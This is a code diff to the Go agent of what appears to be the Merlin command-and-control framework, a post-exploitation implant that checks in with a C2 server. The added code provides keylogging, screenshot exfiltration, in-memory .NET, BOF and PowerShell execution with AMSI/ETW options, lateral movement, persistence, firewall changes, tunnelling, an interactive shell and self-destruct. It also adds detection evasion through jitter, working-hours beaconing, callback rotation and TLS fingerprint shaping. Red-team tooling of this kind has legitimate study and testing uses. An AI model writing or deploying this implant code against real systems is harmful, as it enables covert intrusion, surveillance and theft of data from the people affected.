@@ -40,6 +40,7 @@ import (
 	"runtime"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"time"
 
 	// 3rd Party
@@ -57,6 +58,8 @@ import (
 	"github.com/Ne0nd0g/merlin/pkg"
 	"github.com/Ne0nd0g/merlin/pkg/core"
 	"github.com/Ne0nd0g/merlin/pkg/messages"
+	"github.com/Ne0nd0g/merlin/pkg/profiles"
+	"github.com/Ne0nd0g/merlin/pkg/schedule"
 )
 
 // GLOBAL VARIABLES
@@ -66,38 +69,53 @@ var build = "nonRelease" // build is the build number of the Merlin Agent progra
 
 // Agent is a structure for agent objects. It is not exported to force the use of the New() function
 type Agent struct {
-	ID            uuid.UUID       // ID is a Universally Unique Identifier per agent
-	Platform      string          // Platform is the operating system platform the agent is running on (i.e. windows)
-	Architecture  string          // Architecture is the operating system architecture the agent is running on (i.e. amd64)
-	UserName      string          // UserName is the username that the agent is running as
-	UserGUID      string          // UserGUID is a Globally Unique Identifier associated with username
-	HostName      string          // HostName is the computer's host name
-	Ips           []string        // Ips is a slice of all the IP addresses assigned to the host's interfaces
-	Pid           int             // Pid is the Process ID that the agent is running under
-	iCheckIn      time.Time       // iCheckIn is a timestamp of the agent's initial check in time
-	sCheckIn      time.Time       // sCheckIn is a timestamp of the agent's last status check in time
-	Version       string          // Version is the version number of the Merlin Agent program
-	Build         string          // Build is the build number of the Merlin Agent program
-	WaitTime      time.Duration   // WaitTime is how much time the agent waits in-between checking in
-	PaddingMax    int             // PaddingMax is the maximum size allowed for a randomly selected message padding length
-	MaxRetry      int             // MaxRetry is the maximum amount of failed check in attempts before the agent quits
-	FailedCheckin int             // FailedCheckin is a count of the total number of failed check ins
-	Skew          int64           // Skew is size of skew added to each WaitTime to vary check in attempts
-	Verbose       bool            // Verbose enables verbose messages to standard out
-	Debug         bool            // Debug enables debug messages to standard out
-	Proto         string          // Proto contains the transportation protocol the agent is using (i.e. h2 or hq)
-	Client        *http.Client    // Client is an http.Client object used to make HTTP connections for agent communications
-	UserAgent     string          // UserAgent is the user agent string used with HTTP connections
-	initial       bool            // initial identifies if the agent has successfully completed the first initial check in
-	KillDate      int64           // killDate is a unix timestamp that denotes a time the executable will not run after (if it is 0 it will not be used)
-	RSAKeys       *rsa.PrivateKey // RSA Private/Public key pair; Private key used to decrypt messages
-	PublicKey     rsa.PublicKey   // Public key (of server) used to encrypt messages
-	secret        []byte          // secret is used to perform symmetric encryption operations
-	JWT           string          // Authentication JSON Web Token
-	URL           string          // The C2 server URL
-	Host          string          // HTTP Host header, typically used with Domain Fronting
-	pwdU          []byte          // SHA256 hash from 5000 iterations of PBKDF2 with a 30 character random string input
-	psk           string          // Pre-Shared Key
+	ID            uuid.UUID         // ID is a Universally Unique Identifier per agent
+	Platform      string            // Platform is the operating system platform the agent is running on (i.e. windows)
+	Architecture  string            // Architecture is the operating system architecture the agent is running on (i.e. amd64)
+	UserName      string            // UserName is the username that the agent is running as
+	UserGUID      string            // UserGUID is a Globally Unique Identifier associated with username
+	HostName      string            // HostName is the computer's host name
+	Ips           []string          // Ips is a slice of all the IP addresses assigned to the host's interfaces
+	Pid           int               // Pid is the Process ID that the agent is running under
+	iCheckIn      time.Time         // iCheckIn is a timestamp of the agent's initial check in time
+	sCheckIn      time.Time         // sCheckIn is a timestamp of the agent's last status check in time
+	Version       string            // Version is the version number of the Merlin Agent program
+	Build         string            // Build is the build number of the Merlin Agent program
+	WaitTime      time.Duration     // WaitTime is how much time the agent waits in-between checking in
+	PaddingMax    int               // PaddingMax is the maximum size allowed for a randomly selected message padding length
+	MaxRetry      int               // MaxRetry is the maximum amount of failed check in attempts before the agent quits
+	FailedCheckin int               // FailedCheckin is a count of the total number of failed check ins
+	Skew          int64             // Skew is size of skew added to each WaitTime to vary check in attempts
+	Jitter        int               // Jitter is the most percent each WaitTime is randomly shortened or lengthened
+	hours         *schedule.Hours   // hours are the working hours the agent only checks in during; nil is any time
+	Verbose       bool              // Verbose enables verbose messages to standard out
+	Debug         bool              // Debug enables debug messages to standard out
+	Proto         string            // Proto contains the transportation protocol the agent is using (i.e. h2 or hq)
+	Client        *http.Client      // Client is an http.Client object used to make HTTP connections for agent communications
+	UserAgent     string            // UserAgent is the user agent string used with HTTP connections
+	initial       bool              // initial identifies if the agent has successfully completed the first initial check in
+	KillDate      int64             // killDate is a unix timestamp that denotes a time the executable will not run after (if it is 0 it will not be used)
+	RSAKeys       *rsa.PrivateKey   // RSA Private/Public key pair; Private key used to decrypt messages
+	PublicKey     rsa.PublicKey     // Public key (of server) used to encrypt messages
+	secret        []byte            // secret is used to perform symmetric encryption operations
+	JWT           string            // Authentication JSON Web Token
+	URL           string            // The C2 server URL
+	callbacks     *callbacks        // callbacks are the URLs the agent rotates its check ins across
+	Rotate        time.Duration     // Rotate is how long the agent uses a callback URL before moving to the next one
+	Host          string            // HTTP Host header, typically used with Domain Fronting
+	pwdU          []byte            // SHA256 hash from 5000 iterations of PBKDF2 with a 30 character random string input
+	psk           string            // Pre-Shared Key
+	proxy         string            // proxy is the HTTP proxy URL used when the agent's HTTP client is rebuilt
+	Interpreters  []string          // Interpreters is a list of scripting language interpreters found on the host
+	Watermark     string            // Watermark is the encrypted build watermark that is reported to the server
+	sequence      uint32            // sequence is the number of messages sent and is used by the server to detect a cloned agent
+	tunnel        *tunnelClient     // tunnel makes the connections for the server's SOCKS5 proxies and port forwards
+	shell         *shellSession     // shell is the interactive command shell the server exchanges input and output with
+	keylogger     *keylogger        // keylogger captures keystrokes into a rolling buffer the server dumps
+	health        *health           // health counts errors and samples resource usage to report with status check ins
+	Profile       *profiles.Profile // Profile shapes HTTP messages to match the listener's profile; nil uses the defaults
+	CrashReports  bool              // CrashReports sends the server a report when the agent recovers from a panic
+	exit          bool              // exit makes the agent quit after it sends the results of a selfdestruct job
 }
 
 // New creates a new agent struct with specific values and returns the object
@@ -118,12 +136,22 @@ func New(protocol string, url string, host string, psk string, proxy string, ver
 		Verbose:      verbose,
 		Debug:        debug,
 		Proto:        protocol,
+		tunnel:       newTunnelClient(),
+		shell:        newShellSession(),
+		keylogger:    &keylogger{},
+		health:       newHealth(),
 		UserAgent:    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/40.0.2214.85 Safari/537.36",
 		initial:      false,
 		KillDate:     0,
-		URL:          url,
+		callbacks:    newCallbacks(url),
 		Host:         host,
 	}
+	a.URL = a.callbacks.current()
+
+	// Every padding byte costs DNS queries so the DNS transport does not pad by default
+	if strings.ToLower(protocol) == "dns" {
+		a.PaddingMax = 0
+	}
 
 	u, errU := user.Current()
 	if errU != nil {
@@ -139,6 +167,7 @@ func New(protocol string, url string, host string, psk string, proxy string, ver
 	}
 
 	a.HostName = h
+	a.Interpreters = getInterpreters()
 
 	interfaces, errI := net.Interfaces()
 	if errI != nil {
@@ -162,6 +191,7 @@ func New(protocol string, url string, host string, psk string, proxy string, ver
 	}
 
 	a.Client = client
+	a.proxy = proxy
 
 	// Generate a random password and run it through 5000 iterations of PBKDF2; Used with OPAQUE
 	x := core.RandStringBytesMaskImprSrc(30)
@@ -188,6 +218,7 @@ func New(protocol string, url string, host string, psk string, proxy string, ver
 		message("info", fmt.Sprintf("\tHostname: %s", a.HostName))
 		message("info", fmt.Sprintf("\tPID: %d", a.Pid))
 		message("info", fmt.Sprintf("\tIPs: %v", a.Ips))
+		message("info", fmt.Sprintf("\tInterpreters: %v", a.Interpreters))
 		message("info", fmt.Sprintf("\tProtocol: %s", a.Proto))
 		message("info", fmt.Sprintf("\tProxy: %v", proxy))
 	}
@@ -210,6 +241,7 @@ func (a *Agent) Run() error {
 		// Check killdate to see if the agent should checkin
 		if (a.KillDate == 0) || (time.Now().Unix() < a.KillDate) {
 			if a.initial {
+				a.URL = a.callbacks.next(a.Rotate)
 				if a.Verbose {
 					message("note", "Checking in...")
 				}
@@ -230,7 +262,12 @@ func (a *Agent) Run() error {
 			timeSkew = time.Duration(rand.Int63n(a.Skew)) * time.Millisecond
 		}
 
-		totalWaitTime := a.WaitTime + timeSkew
+		totalWaitTime := a.sleepTime() + timeSkew
+		// Outside of the working hours the agent sleeps until they open, plus the skew so check ins do not all land
+		// on the hour
+		if wake := time.Now().Add(totalWaitTime); !a.hours.Within(wake) {
+			totalWaitTime = time.Until(a.hours.Next(wake)) + timeSkew
+		}
 
 		if a.Verbose {
 			message("note", fmt.Sprintf("Sleeping for %s at %s", totalWaitTime.String(), time.Now().UTC().Format(time.RFC3339)))
@@ -239,6 +276,18 @@ func (a *Agent) Run() error {
 	}
 }
 
+// sleepTime returns the WaitTime randomly shortened or lengthened by up to the Jitter percent
+func (a *Agent) sleepTime() time.Duration {
+	if a.Jitter <= 0 {
+		return a.WaitTime
+	}
+	spread := int64(a.WaitTime) * int64(a.Jitter) / 100
+	if spread <= 0 {
+		return a.WaitTime
+	}
+	return a.WaitTime + time.Duration(rand.Int63n(2*spread+1)-spread)
+}
+
 func (a *Agent) initialCheckIn(client *http.Client) bool {
 
 	if a.Debug {
@@ -324,6 +373,7 @@ func (a *Agent) statusCheckIn() {
 		Version: 1.0,
 		ID:      a.ID,
 		Type:    "StatusCheckIn",
+		Payload: a.health.report(),
 		Padding: core.RandStringBytesMaskImprSrc(a.PaddingMax),
 	}
 
@@ -338,7 +388,25 @@ func (a *Agent) statusCheckIn() {
 		return
 	}
 
-	a.FailedCheckin = 0
+	// Report the failed check ins to the server so it can track the agent's transport health
+	if a.FailedCheckin > 0 {
+		if a.Verbose {
+			message("note", fmt.Sprintf("Updating server with failed checkins from %d to 0", a.FailedCheckin))
+		}
+		info := a.getAgentInfoMessage()
+		a.FailedCheckin = 0
+		infoResponse, err := a.sendMessage("POST", info)
+		if err != nil {
+			if a.Verbose {
+				message("warn", err.Error())
+			}
+		} else if _, errHandler := a.messageHandler(infoResponse); errHandler != nil {
+			atomic.AddUint32(&a.health.handlerErrors, 1)
+			if a.Verbose {
+				message("warn", errHandler.Error())
+			}
+		}
+	}
 	a.sCheckIn = time.Now().UTC()
 
 	if a.Debug {
@@ -347,9 +415,25 @@ func (a *Agent) statusCheckIn() {
 		message("debug", fmt.Sprintf("Message Payload: %s", j.Payload))
 	}
 
+	// Jobs held by a barrier are run by every agent at the same time
+	if j.Delay > 0 {
+		if a.Verbose {
+			message("note", fmt.Sprintf("Waiting %s before handling the %s message", j.Delay, j.Type))
+		}
+		time.Sleep(j.Delay)
+	}
+
+	// A panic while handling the message is recovered so one failing job does not end the agent
+	defer func() {
+		if r := recover(); r != nil {
+			a.crashed(r, j.Type)
+		}
+	}()
+
 	// handle message
 	m, err := a.messageHandler(j)
 	if err != nil {
+		atomic.AddUint32(&a.health.handlerErrors, 1)
 		if a.Verbose {
 			message("warn", err.Error())
 		}
@@ -362,7 +446,19 @@ func (a *Agent) statusCheckIn() {
 	}
 
 	_, errR := a.sendMessage("post", m)
+	// A self-destructed agent tries to report what it removed a few times before it exits
+	for i := 1; errR != nil && a.exit && i < 3; i++ {
+		time.Sleep(a.WaitTime)
+		_, errR = a.sendMessage("post", m)
+	}
+	if a.exit {
+		if a.Verbose {
+			message("note", "Exiting after the selfdestruct job")
+		}
+		os.Exit(0)
+	}
 	if errR != nil {
+		atomic.AddUint32(&a.health.sendErrors, 1)
 		if a.Verbose {
 			message("warn", errR.Error())
 		}
@@ -371,21 +467,20 @@ func (a *Agent) statusCheckIn() {
 
 }
 
-// getClient returns a HTTP client for the passed in protocol (i.e. h2 or hq)
+// getClient returns a HTTP client for the passed in protocol (i.e. h2, hq, dns, or tcp)
 func getClient(protocol string, proxyURL string) (*http.Client, error) {
 
 	/* #nosec G402 */
 	// G402: TLS InsecureSkipVerify set true. (Confidence: HIGH, Severity: HIGH) Allowed for testing
 	// Setup TLS configuration
 	TLSConfig := &tls.Config{
-		MinVersion:         tls.VersionTLS12,
-		InsecureSkipVerify: true, // #nosec G402 - see https://github.com/Ne0nd0g/merlin/issues/59 TODO fix this
-		CipherSuites: []uint16{
-			tls.TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384,
-			tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA,
-		},
-		NextProtos: []string{protocol},
+		MinVersion:            tls.VersionTLS12,
+		InsecureSkipVerify:    true, // #nosec G402 - see https://github.com/Ne0nd0g/merlin/issues/59 TODO fix this
+		VerifyPeerCertificate: pinned.verify,
+		GetClientCertificate:  clientCert.get,
+		NextProtos:            []string{protocol},
 	}
+	TLSConfig.CipherSuites, TLSConfig.CurvePreferences = hello.get()
 
 	switch strings.ToLower(protocol) {
 	case "hq":
@@ -417,6 +512,12 @@ func getClient(protocol string, proxyURL string) (*http.Client, error) {
 			TLSClientConfig: TLSConfig,
 		}
 		return &http.Client{Transport: transport}, nil
+	case "dns":
+		return &http.Client{Transport: &dnsTransport{}}, nil
+	case "tcp":
+		return &http.Client{Transport: &tcpTransport{}}, nil
+	case "ws", "wss":
+		return &http.Client{Transport: &wsTransport{}}, nil
 	default:
 		return nil, fmt.Errorf("%s is not a valid client protocol", protocol)
 	}
@@ -433,6 +534,7 @@ func (a *Agent) sendMessage(method string, m messages.Base) (messages.Base, erro
 	}
 
 	var returnMessage messages.Base
+	m.Sequence = atomic.AddUint32(&a.sequence, 1)
 
 	// Convert messages.Base to gob
 	messageBytes := new(bytes.Buffer)
@@ -456,6 +558,9 @@ func (a *Agent) sendMessage(method string, m messages.Base) (messages.Base, erro
 
 	switch strings.ToLower(method) {
 	case "post":
+		if a.Profile != nil {
+			return a.sendProfileMessage(jweBytes.Bytes())
+		}
 		req, reqErr := http.NewRequest("POST", a.URL, jweBytes)
 		if reqErr != nil {
 			return returnMessage, fmt.Errorf("there was an error building the HTTP request:\r\n%s", reqErr.Error())
@@ -530,6 +635,62 @@ func (a *Agent) sendMessage(method string, m messages.Base) (messages.Base, erro
 	}
 }
 
+// sendProfileMessage posts the gob encoded JWE to one of the profile's URIs, shaped by the profile, and returns the
+// server's response message
+func (a *Agent) sendProfileMessage(body []byte) (messages.Base, error) {
+	var returnMessage messages.Base
+	u, err := a.Profile.URL(a.URL)
+	if err != nil {
+		return returnMessage, err
+	}
+	body, err = a.Profile.Client.Encode(body)
+	if err != nil {
+		return returnMessage, err
+	}
+	req, err := http.NewRequest("POST", u, bytes.NewReader(body))
+	if err != nil {
+		return returnMessage, fmt.Errorf("there was an error building the HTTP request:\r\n%s", err.Error())
+	}
+	req.Header.Set("User-Agent", a.UserAgent)
+	a.Profile.SetRequest(req, a.JWT)
+	if a.Host != "" {
+		req.Host = a.Host
+	}
+
+	resp, err := a.Client.Do(req)
+	if err != nil {
+		return returnMessage, fmt.Errorf("there was an error with the HTTP client while performing a POST:\r\n%s", err.Error())
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != 200 {
+		return returnMessage, fmt.Errorf("there was an error communicating with the server:\r\n%d", resp.StatusCode)
+	}
+	data, err := ioutil.ReadAll(resp.Body)
+	if err != nil {
+		return returnMessage, fmt.Errorf("there was an error reading the response message:\r\n%s", err.Error())
+	}
+	data, err = a.Profile.Server.Decode(data)
+	if err != nil {
+		return returnMessage, err
+	}
+
+	// Decode GOB from server response into JWE
+	var jweString string
+	if err = gob.NewDecoder(bytes.NewReader(data)).Decode(&jweString); err != nil {
+		return returnMessage, fmt.Errorf("there was an error decoding the gob message:\r\n%s", err.Error())
+	}
+
+	// Decrypt JWE to messages.Base
+	respMessage, err := core.DecryptJWE(jweString, a.secret)
+	if err != nil {
+		return returnMessage, err
+	}
+	if respMessage.ID != a.ID && a.Verbose {
+		return returnMessage, fmt.Errorf("response message agent ID %s does not match current ID %s", respMessage.ID.String(), a.ID.String())
+	}
+	return respMessage, nil
+}
+
 // messageHandler looks at the message type and performs the associated action
 func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 	if a.Debug {
@@ -565,7 +726,7 @@ func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 
 			d, _ := filepath.Split(p.FileLocation)
 			_, directoryPathErr := os.Stat(d)
-			if directoryPathErr != nil {
+			if d != "" && directoryPathErr != nil {
 				c.Stderr = fmt.Sprintf("There was an error getting the FileInfo structure for the remote "+
 					"directory %s:\r\n", p.FileLocation)
 				c.Stderr += directoryPathErr.Error()
@@ -577,12 +738,17 @@ func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 				downloadFile, downloadFileErr := base64.StdEncoding.DecodeString(p.FileBlob)
 				if downloadFileErr != nil {
 					c.Stderr = downloadFileErr.Error()
+				} else if hash := fmt.Sprintf("%x", sha256.Sum256(downloadFile)); p.SHA256 != "" && !strings.EqualFold(hash, p.SHA256) {
+					c.Stderr = fmt.Sprintf("the file's SHA-256 hash %s does not match the expected hash %s; it was not written", hash, p.SHA256)
 				} else {
 					errF := ioutil.WriteFile(p.FileLocation, downloadFile, 0644)
 					if errF != nil {
 						c.Stderr = errF.Error()
 					} else {
 						c.Stdout = fmt.Sprintf("Successfully uploaded file to %s on agent %s", p.FileLocation, a.ID.String())
+						if p.SHA256 != "" {
+							c.Stdout += fmt.Sprintf(" and verified its SHA-256 hash %s", hash)
+						}
 					}
 				}
 			}
@@ -631,6 +797,150 @@ func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 		p := m.Payload.(messages.CmdPayload)
 		c.Job = p.Job
 		c.Stdout, c.Stderr = a.executeCommand(p)
+	case "Script":
+		p := m.Payload.(messages.Script)
+		c.Job = p.Job
+		if a.Verbose {
+			message("note", fmt.Sprintf("Received %s script of %d bytes", p.Interpreter, len(p.Script)))
+		}
+		c.Stdout, c.Stderr = ExecuteScript(p.Interpreter, p.Script)
+	case "WasmTask":
+		p := m.Payload.(messages.WasmTask)
+		c.Job = p.Job
+		c.Stdout, c.Stderr = a.executeWasm(p)
+	case "Assembly":
+		p := m.Payload.(messages.Assembly)
+		c.Job = p.Job
+		assembly, err := base64.StdEncoding.DecodeString(p.Assembly)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error decoding the assembly:\r\n%s", err.Error())
+			break
+		}
+		if a.Verbose {
+			message("note", fmt.Sprintf("Executing .NET assembly of %d bytes with arguments %v", len(assembly), p.Args))
+		}
+		c.Stdout, err = executeAssembly(assembly, p.Args, p.AppDomain, p.AMSI, p.ETW)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error executing the assembly:\r\n%s", err.Error())
+		}
+	case "BOF":
+		p := m.Payload.(messages.BOF)
+		c.Job = p.Job
+		object, err := base64.StdEncoding.DecodeString(p.Object)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error decoding the BOF:\r\n%s", err.Error())
+			break
+		}
+		args, err := base64.StdEncoding.DecodeString(p.Args)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error decoding the BOF arguments:\r\n%s", err.Error())
+			break
+		}
+		if a.Verbose {
+			message("note", fmt.Sprintf("Running BOF of %d bytes with %d bytes of arguments", len(object), len(args)))
+		}
+		c.Stdout, c.Stderr, err = executeBOF(object, args)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error running the BOF:\r\n%s", err.Error())
+		}
+	case "Move":
+		p := m.Payload.(messages.Move)
+		c.Job = p.Job
+		payload, err := base64.StdEncoding.DecodeString(p.Payload)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error decoding the payload:\r\n%s", err.Error())
+			break
+		}
+		if a.Verbose {
+			message("note", fmt.Sprintf("Moving to %s with %s as %s", p.Host, p.Method, p.User))
+		}
+		c.Stdout, err = move(p, payload)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error moving to %s with %s:\r\n%s", p.Host, p.Method, err.Error())
+		}
+	case "Firewall":
+		f := m.Payload.(messages.Firewall)
+		c.Job = f.Job
+		if a.Verbose {
+			message("note", fmt.Sprintf("Running firewall %s %s", f.Action, f.Name))
+		}
+		var err error
+		c.Stdout, err = firewall(f)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error with the firewall %s job:\r\n%s", f.Action, err.Error())
+		}
+	case "Persist":
+		p := m.Payload.(messages.Persist)
+		c.Job = p.Job
+		if a.Verbose {
+			message("note", fmt.Sprintf("Running persist %s with the %s method for %s", p.Action, p.Method, p.Name))
+		}
+		var err error
+		c.Stdout, err = persist(p)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error with the %s persistence %s:\r\n%s", p.Method, p.Name, err.Error())
+		}
+	case "SelfDestruct":
+		p := m.Payload.(messages.SelfDestruct)
+		c.Job = p.Job
+		if a.Verbose {
+			message("note", fmt.Sprintf("Self-destructing: removing %d persistence mechanisms and %d paths",
+				len(p.Persistence), len(p.Paths)))
+		}
+		removed, failed := a.selfDestruct(p)
+		c.Removed = removed
+		c.Stdout, c.Stderr = selfDestructReport(removed, failed)
+	case "PowerShell":
+		p := m.Payload.(messages.PowerShell)
+		c.Job = p.Job
+		if a.Verbose {
+			message("note", fmt.Sprintf("Running PowerShell script of %d bytes with the %s method", len(p.Script), p.Method))
+		}
+		var err error
+		switch p.Method {
+		case "runspace":
+			c.Stdout, err = executePowerShell(p.Script, p.AMSI, p.ETW)
+		case "powerpick":
+			c.Stdout, err = powerPick(p.Script, p.PPID)
+		default:
+			err = fmt.Errorf("%s is not a valid PowerShell method", p.Method)
+		}
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error running the PowerShell script:\r\n%s", err.Error())
+		}
+	case "Archive":
+		p := m.Payload.(messages.Archive)
+		c.Job = p.Job
+		var err error
+		c.Stdout, c.Created, err = archive(p)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error executing the '%s' command:\r\n%s", p.Method, err.Error())
+		}
+	case "Tunnel":
+		p := m.Payload.(messages.Tunnel)
+		c.Job = p.Job
+		if err := a.startTunnel(); err != nil {
+			c.Stderr = fmt.Sprintf("there was an error starting the tunnel:\r\n%s", err.Error())
+		} else {
+			c.Stdout = "Tunneling SOCKS5 proxy and port forward connections"
+		}
+	case "Shell":
+		p := m.Payload.(messages.Shell)
+		c.Job = p.Job
+		if err := a.startShell(); err != nil {
+			c.Stderr = fmt.Sprintf("there was an error starting the interactive shell:\r\n%s", err.Error())
+		} else {
+			c.Stdout = "Started an interactive shell"
+		}
+	case "Search":
+		p := m.Payload.(messages.Search)
+		c.Job = p.Job
+		results, err := search(p)
+		if err != nil {
+			c.Stderr = fmt.Sprintf("there was an error executing the '%s' command:\r\n%s", p.Method, err.Error())
+			break
+		}
+		c.Stdout = results
 	case "ServerOk":
 		if a.Verbose {
 			message("note", "Received Server OK, doing nothing")
@@ -698,6 +1008,67 @@ func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 				returnMessage.Payload = fileTransferMessage
 				return returnMessage, nil
 			}
+		case "screenshot":
+			if a.Verbose {
+				message("note", "Received screenshot request")
+			}
+			image, err := screenshot()
+			if err != nil {
+				c.Stderr = fmt.Sprintf("there was an error taking a screenshot:\r\n%s", err.Error())
+				break
+			}
+			if a.Verbose {
+				message("note", fmt.Sprintf("Uploading screenshot of size %d bytes to the server", len(image)))
+			}
+			// The capture time keeps the screenshots of a watch from overwriting each other on the server
+			returnMessage.Type = "FileTransfer"
+			returnMessage.Payload = messages.FileTransfer{
+				FileLocation: fmt.Sprintf("screenshot_%s.png", time.Now().UTC().Format("20060102T150405.000Z")),
+				FileBlob:     base64.StdEncoding.EncodeToString(image),
+				IsDownload:   true,
+				Job:          p.Job,
+			}
+			return returnMessage, nil
+		case "keylog":
+			if len(p.Args) < 1 {
+				c.Stderr = "the keylog module requires the start, stop, or dump command"
+				break
+			}
+			if a.Verbose {
+				message("note", fmt.Sprintf("Received keylog %s request", p.Args[0]))
+			}
+			returnMessage.Type = "Keylog"
+			returnMessage.Payload = a.keylog(p.Job, p.Args[0])
+			return returnMessage, nil
+		case "sessions-enum", "loggedon":
+			if a.Verbose {
+				message("note", fmt.Sprintf("Received %s request", p.Command))
+			}
+			// Args are optional and in the order of host, user name, password
+			args := make([]string, 3)
+			copy(args, p.Args)
+
+			us := messages.UserSessions{
+				Job:    p.Job,
+				Method: p.Command,
+				Host:   args[0],
+			}
+			var err error
+			if p.Command == "sessions-enum" {
+				us.Sessions, err = enumerateSessions(args[0], args[1], args[2])
+			} else {
+				us.Sessions, err = enumerateLoggedOn(args[0], args[1], args[2])
+			}
+			if err != nil {
+				us.Stderr = err.Error()
+			}
+			if a.Verbose {
+				message("note", fmt.Sprintf("Enumerated %d sessions using %s", len(us.Sessions), p.Command))
+			}
+
+			returnMessage.Type = "UserSessions"
+			returnMessage.Payload = us
+			return returnMessage, nil
 		default:
 			c.Stderr = fmt.Sprintf("%s is not a valid module type", p.Command)
 		}
@@ -738,6 +1109,26 @@ func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 				message("note", fmt.Sprintf("Setting agent skew interval to %d", t))
 			}
 			a.Skew = t
+		case "jitter":
+			t, err := strconv.Atoi(p.Args)
+			if err != nil || t < 0 || t > 100 {
+				c.Stderr = fmt.Sprintf("%s is not a jitter percent between 0 and 100", p.Args)
+				break
+			}
+			if a.Verbose {
+				message("note", fmt.Sprintf("Setting agent sleep jitter to %d%%", t))
+			}
+			a.Jitter = t
+		case "workinghours":
+			h, err := schedule.Parse(p.Args)
+			if err != nil {
+				c.Stderr = fmt.Sprintf("there was an error changing the agent working hours:\r\n%s", err.Error())
+				break
+			}
+			if a.Verbose {
+				message("note", fmt.Sprintf("Setting agent working hours to %q", h.String()))
+			}
+			a.hours = h
 		case "padding":
 			t, err := strconv.Atoi(p.Args)
 			if err != nil {
@@ -774,6 +1165,38 @@ func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 				message("info", fmt.Sprintf("Set Kill Date to: %s",
 					time.Unix(a.KillDate, 0).UTC().Format(time.RFC3339)))
 			}
+		case "callbacks":
+			if err := a.controlCallbacks(p.Args); err != nil {
+				c.Stderr = err.Error()
+				break
+			}
+			if a.Verbose {
+				message("note", fmt.Sprintf("Callback URLs: %s rotated every %s", strings.Join(a.callbacks.list(), ", "), a.Rotate))
+			}
+		case "pins":
+			if err := a.controlPins(p.Args); err != nil {
+				c.Stderr = err.Error()
+				break
+			}
+			if a.Verbose {
+				message("note", fmt.Sprintf("Certificate pins: %s", strings.Join(pinned.list(), ", ")))
+			}
+		case "ja3":
+			if err := a.controlJA3(p.Args); err != nil {
+				c.Stderr = err.Error()
+				break
+			}
+			if a.Verbose {
+				message("note", fmt.Sprintf("TLS Client Hello: %s", hello.String()))
+			}
+		case "psk":
+			if err := a.controlPSK(p.Args); err != nil {
+				c.Stderr = err.Error()
+				break
+			}
+			if a.Verbose {
+				message("note", "Pre-shared key replaced")
+			}
 		default:
 			c.Stderr = fmt.Sprintf("%s is not a valid AgentControl message type.", p.Command)
 		}
@@ -830,6 +1253,16 @@ func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 		p := m.Payload.(messages.KeyExchange)
 		a.PublicKey = p.PublicKey
 		return returnMessage, nil
+	case "IdentityFork":
+		p := m.Payload.(messages.IdentityFork)
+		if a.Verbose {
+			message("warn", fmt.Sprintf("The server forked this agent: %s", p.Reason))
+			message("note", fmt.Sprintf("Registering again with agent ID %s", p.ID))
+		}
+		// The next check in registers and authenticates the new ID with OPAQUE
+		a.ID = p.ID
+		a.initial = false
+		return returnMessage, nil
 	case "ReAuthenticate":
 		if a.Verbose {
 			message("note", "Re-authenticating with OPAQUE protocol")
@@ -848,8 +1281,11 @@ func (a *Agent) messageHandler(m messages.Base) (messages.Base, error) {
 	if a.Verbose && c.Stdout != "" {
 		message("success", c.Stdout)
 	}
-	if a.Verbose && c.Stderr != "" {
-		message("warn", c.Stderr)
+	if c.Stderr != "" {
+		atomic.AddUint32(&a.health.jobErrors, 1)
+		if a.Verbose {
+			message("warn", c.Stderr)
+		}
 	}
 
 	returnMessage.Type = "CmdResults"
@@ -1306,6 +1742,7 @@ func (a *Agent) getAgentInfoMessage() messages.Base {
 		HostName:     a.HostName,
 		Pid:          a.Pid,
 		Ips:          a.Ips,
+		Interpreters: a.Interpreters,
 	}
 
 	agentInfoMessage := messages.AgentInfo{
@@ -1319,7 +1756,15 @@ func (a *Agent) getAgentInfoMessage() messages.Base {
 		Proto:         a.Proto,
 		SysInfo:       sysInfoMessage,
 		KillDate:      a.KillDate,
-	}
+		Watermark:     a.Watermark,
+		Callbacks:     a.callbacks.list(),
+		Rotate:        a.Rotate.String(),
+		Pins:          pinned.list(),
+		JA3:           hello.String(),
+		Jitter:        a.Jitter,
+		WorkingHours:  a.hours.String(),
+	}
+	_, agentInfoMessage.UTCOffset = time.Now().Zone()
 
 	baseMessage := messages.Base{
 		Version: 1.0,